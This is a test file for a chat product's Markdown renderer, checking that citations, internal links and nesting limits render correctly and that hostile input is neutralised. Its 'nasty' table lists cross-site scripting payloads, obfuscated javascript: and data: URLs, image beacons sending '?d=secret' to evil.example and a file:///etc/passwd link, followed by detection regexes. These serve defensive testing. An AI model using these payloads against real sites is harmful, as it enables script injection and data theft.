import { renderToStaticMarkup } from 'react-dom/server';
import { StaticRouter } from 'react-router-dom/server';
import { describe, expect, test } from 'vitest';
import { speakerOf } from '#core/i18n/i18n.ts';
import { SpeechContext, speechOf } from '../ui/words.ts';
import { Markdown } from './Markdown.tsx';
import { ownPath } from './read-markdown.ts';

const GUILD = '500000000000000001';

const drawn = (text: string, cited = 3) =>
  renderToStaticMarkup(
    <StaticRouter location="/">
      <SpeechContext.Provider value={speechOf(speakerOf('en'))}>
        <Markdown text={text} guildId={GUILD} cited={cited} sourceId={(number) => `source-${number}`} />
      </SpeechContext.Provider>
    </StaticRouter>,
  );
/** Tags and attributes alone, with what stands between them taken out. */
const markupOf = (html: string) => (html.match(/<[^>]*>/g) ?? []).join('');
const wordsOf = (html: string) =>
  html
    .replace(/<[^>]*>/g, '')
    .replaceAll('&amp;', '&')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>');

test('what parts a text is drawn', () => {
  const html = drawn(
    '# Title\n\nA **strong** *word*, `code` and ~~not~~ this [1].\n\n- one\n- two\n  1. deep\n\n> said\n\n```js\n<b>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---',
  );
  for (const piece of [
    '<p dir="auto" class="font-semibold">Title</p>',
    ...['<strong>strong</strong>', '<em>word</em>', '>code</code>', '<s>not</s>', 'href="#source-1"'],
    ...['<li', '<ol', '<blockquote', '<code>&lt;b&gt;</code>', '<th scope="col"', '<td', '<hr'],
  ])
    expect(html).toContain(piece);
  expect(html).not.toMatch(/<h\d/);
});

test('a mark of a source leads to it; one without a source stays words', () => {
  const html = drawn('So it is [1][3], not [4], [0] or [x], and not in `[2]`.');
  expect(html.match(/href="#source-\d"/g)).toEqual(['href="#source-1"', 'href="#source-3"']);
  expect(wordsOf(html)).toContain('not [4], [0] or [x]');
});

test('pages of the product are links, and of it those of this guild', () => {
  expect(drawn(`See [messages](/guilds/${GUILD}/messages?from=2026-01-01#top).`)).toContain(
    `href="/guilds/${GUILD}/messages?from=2026-01-01#top"`,
  );
  for (const path of [`/guilds/${GUILD}`, '/trust', '/policies/privacy/versions', '/api/docs'])
    expect(ownPath(path, GUILD)).toBe(path);
  for (const href of [
    ...['', '/', '//evil.example', '/\\evil.example', '\\\\evil.example', 'evil.example', '/%5cevil.example/x'],
    ...['https://evil.example', 'javascript:alert(1)', 'data:text/html,x', '/\tx', '/guilds/500000000000000002'],
    ...[`/guilds/${GUILD}1`, `/guilds/${GUILD}/../500000000000000002`, `/guilds/${GUILD}/%2e%2e/9`, '/auth/sign-out'],
    ...['/trustworthy', '/trust/..//evil.example', 'http:/trust', '/mail/stop/x', '/trust\u202e', '?q', '#x'],
  ])
    expect([href, ownPath(href, GUILD)]).toEqual([href, null]);
});

/** Ways in which a text tries to bring in something of another host, to run, or to look like something else. */
const nasty: Readonly<Record<string, string>> = {
  image: '![a](https://evil.example/p.png?d=secret)',
  'image with a title': '![a](https://evil.example/p.png "t")',
  'image in a link': '[![a](https://evil.example/p.png)](https://evil.example/go)',
  'image by reference': '![a][r]\n\n[r]: https://evil.example/p.png',
  'image of the protocol of the page': '![a](//evil.example/p.png)',
  'image of an address in brackets': '![a](<https://evil.example/p q.png>)',
  'link elsewhere': '[click](https://evil.example/?d=secret)',
  'link by reference': '[click][r]\n\n[r]: https://evil.example/',
  'short reference': '[r]\n\n[r]: https://evil.example/',
  'reference after the text': 'see [r][]\n\n[r]:\n  https://evil.example/\n  "t"',
  footnote: 'a[^1]\n\n[^1]: https://evil.example/',
  autolink: '<https://evil.example/> <mail@evil.example>',
  'bare address': 'https://evil.example www.evil.example evil.example',
  'protocol of the page': '[a](//evil.example)',
  backslashes: '[a](/\\evil.example) [b](\\\\evil.example) [c](/\\/evil.example)',
  javascript: '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))',
  'javascript in entities': '[a](&#x6A;avascript:alert(1)) [b](javascript&colon;alert(1))',
  'javascript in percents': '[a](%6Aavascript:alert(1)) [b](javascript%3Aalert(1))',
  data: '[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,<svg onload=alert(1)>)',
  'other protocols':
    '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](intent://x) [e](discord://x) [f](ftp://evil.example)',
  html: '<img src=x onerror=alert(1)><script src="https://evil.example/x.js"></script>',
  'html over lines': '<div\nonclick="alert(1)"\n>\nx\n</div>',
  'html comment': '<!-- <img src="https://evil.example/"> -->',
  'html in code':
    '`<img src="https://evil.example/">`\n\n```html\n</code></pre><script>alert(1)</script>\n```\n\n    <svg onload=alert(1)>',
  'html in the name of a language': '```"><img src=x onerror=alert(1)>\nx\n```',
  'html in a table':
    '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| ![a](https://evil.example/p) | <iframe src=//evil.example> |',
  'html in entities': '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;',
  'html in a link': '[<img src=x>](https://evil.example/"onmouseover="alert(1))',
  'quote in a title': '[a](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
  'style and base': '<style>@import "https://evil.example/x.css"</style><base href="https://evil.example/">',
  form: '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'user in an address': `[a](https://own@evil.example/guilds/${GUILD})`,
  'own address with a way out': `[a](/guilds/${GUILD}/../../..//evil.example/)`,
  'own name at another host': `[a](https://evil.example/guilds/${GUILD})`,
  'link in a heading': '# [a](https://evil.example/)\n\n[b](https://evil.example/)\n===',
  'link in a list in a quote': '> - [a](https://evil.example/)\n>   > 1. ![b](https://evil.example/)',
  'reversed address': '[\u202Egnp.elpmaxe.live](https://evil.example/\u202E)',
  'hidden words': 'a\u200B\u200D\u2060\uFEFF\u00ADb \u{E0048}\u{E0049} \u2066c\u2069 \u3164',
  'discord mentions': '@everyone <@300000000000000001> <#1> <t:0:R> <:x:1>',
  'mathematics and wiki links': '$\\href{https://evil.example/}{x}$ [[https://evil.example/]] {{x}}',
  'nul and controls': 'a\u0000b\u0007c\u001Bd [x](https://evil.example/\u0000)',
};

describe('nothing of another host is in the markup, nothing runs, and nothing hides', () => {
  test.each(Object.entries(nasty))('%s', (_name, text) => {
    const html = drawn(text);
    const markup = markupOf(html);
    expect(markup).not.toMatch(
      /evil|javascript|vbscript|data:|file:|blob:|https?:|\/\/|\bon[a-z]+=|style=|\bsrc=|\baction=/i,
    );
    expect(markup).not.toMatch(
      /<(img|script|iframe|svg|style|base|form|meta|object|embed|link|input|button|video|audio)\b/i,
    );
    for (const [, href] of markup.matchAll(/href="([^"]*)"/g))
      expect(href).toMatch(new RegExp(`^(#source-\\d+|/guilds/${GUILD}(/|$))`));
    expect(html).not.toMatch(/(?!\n|\t)[\p{Cc}\p{Cf}\u3164]/u);
    // The address can be read.
    if (/\]\(https:\/\/evil/.test(text)) expect(wordsOf(html)).toContain('https://evil.example');
  });
});

test('emoji of more than one sign stay whole', () => {
  expect(drawn('👩‍💻 ❤️ 👍🏽 🏳️‍🌈')).toContain('👩‍💻 ❤️ 👍🏽 🏳️‍🌈');
});

test('nesting and length have a bound, nothing is lost by it, and it stays quick', () => {
  const from = performance.now();
  for (const text of [
    `${'>'.repeat(5_000)} end`,
    `${Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n')} end`,
    `${'*'.repeat(20_000)}end`,
    `${'['.repeat(20_000)}end`,
    `${'[a]('.repeat(8_000)}end`,
    `a ${'`'.repeat(19_999)} end`,
    `${'|a'.repeat(5_000)}|\n${'|-'.repeat(5_000)}|\n|end|`,
    `${'a'.repeat(100_000)} end`,
    `${'**a '.repeat(9_000)}end`,
  ]) {
    const html = drawn(text);
    expect(wordsOf(html)).toContain('end');
    expect((html.match(/<blockquote|<ul/g) ?? []).length).toBeLessThan(30);
  }
  expect(performance.now() - from).toBeLessThan(5_000);
});
